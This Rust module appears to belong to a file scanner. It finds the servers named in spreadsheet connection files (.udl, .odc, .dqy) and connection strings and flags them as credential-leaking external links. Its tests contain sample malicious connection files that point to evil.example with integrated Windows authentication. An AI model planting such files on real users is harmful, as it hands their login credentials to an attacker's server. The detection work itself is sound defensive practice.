//! Files that tell a spreadsheet where its data lie, and how to log in there: `.udl`, `.odc`, `.dqy`, `.rqy`, `.oqy`; and the
//! connection texts in them and in workbooks. The program gives the login of who opens them to the server that they name.

use scan::content::LinkKind;

use crate::formats::office::{is_remote, share_mark};
use crate::formats::shortcut::lead;
use crate::text;
use crate::unpack::{File, Walk};

/// Keys of a connection text that name the server.
const SERVERS: [&str; 12] = [
    "data source",
    "datasource",
    "server",
    "location",
    "address",
    "addr",
    "network address",
    "host",
    "hostname",
    "servername",
    "extended properties",
    "dbq",
];
/// Bytes of a file that are read; such files are small.
const BYTES_MAX: usize = 1024 * 1024;
/// Servers of one text.
const SERVERS_MAX: usize = 100;

/// Reads such a file; its text is kept by the reader of its kind.
pub(crate) fn open(walk: &mut Walk<'_>, file: File<'_>) {
    if file.bytes.len() > BYTES_MAX {
        walk.not_opened(file.at, scan::content::WhyUnopened::OverBudget);
    }
    let bytes = file.bytes.get(..BYTES_MAX).unwrap_or(file.bytes);
    let connection = text::decode(bytes, file.charset);
    let connection = htmlize::unescape(connection.as_ref());
    let servers = servers(&connection);
    if servers.len() >= SERVERS_MAX {
        walk.not_opened(file.at, scan::content::WhyUnopened::OverBudget);
    }
    for server in servers {
        walk.mark(file.at, "external_link");
        lead(walk, file.at, &server, LinkKind::Fetched);
    }
}

/// The servers that a connection text names, as addresses. One that is reached by a full name or a number may stand anywhere.
pub(crate) fn servers(connection: &str) -> Vec<String> {
    let mut servers: Vec<String> = Vec::new();
    let mut add = |server: String| {
        if servers.len() < SERVERS_MAX && !servers.contains(&server) {
            servers.push(server);
        }
    };
    for piece in connection.split([';', '\r', '\n', '<', '>']) {
        // `Connection=Data Source=host`, `Data Source=https://host/x?a=b`
        for at in memchr::memchr_iter(b'=', piece.as_bytes()).take(2) {
            let (key, value) = piece.split_at_checked(at).unwrap_or((piece, ""));
            let key = key.rsplit('=').next().unwrap_or_default().trim().to_ascii_lowercase();
            let value = value.trim_start_matches('=').trim().trim_matches(['"', '\'']);
            if share_mark(value).is_some() || (SERVERS.contains(&key.as_str()) && is_remote(value)) {
                add(value.to_owned());
            } else if SERVERS.contains(&key.as_str()) {
                host(value).map(|host| format!("http://{host}/")).into_iter().for_each(&mut add);
            }
        }
    }
    servers
}

/// `tcp:host,port`, `host\instance`, `(DESCRIPTION=... )` of Oracle aside.
fn host(value: &str) -> Option<&str> {
    let value = value.rsplit_once(':').map_or(value, |(before, after)| if before.len() < 4 { after } else { before });
    let host = value.split([',', '\\', '/', ')']).next().unwrap_or_default().trim();
    let is_name = host.contains('.') && host.chars().all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_'));
    // A file of this machine has an ending, and is no host.
    let is_file = ["mdb", "accdb", "xls", "xlsx", "xlsm", "csv", "txt", "dbf", "cub", "mdf", "db"]
        .iter()
        .any(|ending| host.rsplit('.').next().is_some_and(|last| last.eq_ignore_ascii_case(ending)));
    (is_name && !is_file && host.starts_with(char::is_alphanumeric) && !host.starts_with("127.")).then_some(host)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::shown::shown;

    #[test]
    fn servers_of_connection_texts() {
        for (text, expected) in [
            ("Provider=SQLOLEDB;Data Source=evil.example;Integrated Security=SSPI", vec!["http://evil.example/"]),
            ("DRIVER={SQL Server};SERVER=tcp:192.0.2.7,1433", vec!["http://192.0.2.7/"]),
            ("Connection=Provider=MSOLAP;Location=\"a.example\\x\"", vec!["http://a.example/"]),
            ("Data Source=https://a.example/olap?x=y", vec!["https://a.example/olap?x=y"]),
            ("Connection=Data Source=a.example", vec!["http://a.example/"]),
            ("Data Source=\\\\a.example\\share\\x.mdb", vec!["\\\\a.example\\share\\x.mdb"]),
            ("Data Source=C:\\data\\x.mdb", vec![]),
            ("Data Source=sales.mdb;Server=localhost;Host=127.0.0.1", vec![]),
            ("", vec![]),
        ] {
            assert_eq!(servers(text), expected, "{text}");
        }
        let many: String = (0..500).map(|number| format!("Server=h{number}.example;")).collect();
        assert_eq!(servers(&many).len(), SERVERS_MAX);
    }

    #[test]
    fn files_of_connections() {
        let udl = "[oledb]\r\n; Everything after this line is an OLE DB initstring\r\nProvider=SQLOLEDB.1;Data Source=evil.example\r\n";
        let wide: Vec<u8> = [0xff, 0xfe].into_iter().chain(udl.encode_utf16().flat_map(u16::to_le_bytes)).collect();
        let odc = b"<html><odc:ConnectionString>Provider=X;Data Source=&quot;evil.example&quot;</odc:ConnectionString></html>";
        let dqy = b"XLODBC\r\n1\r\nDRIVER={SQL Server};SERVER=evil.example;Trusted_Connection=Yes\r\nselect 1\r\n";
        for (name, bytes) in [("a.udl", wide.as_slice()), ("a.odc", odc), ("a.dqy", dqy)] {
            let found = shown(name, bytes);
            assert!(found.contains("external_link") && found.contains("Fetched: http://evil.example/"), "{found}");
        }
    }
}
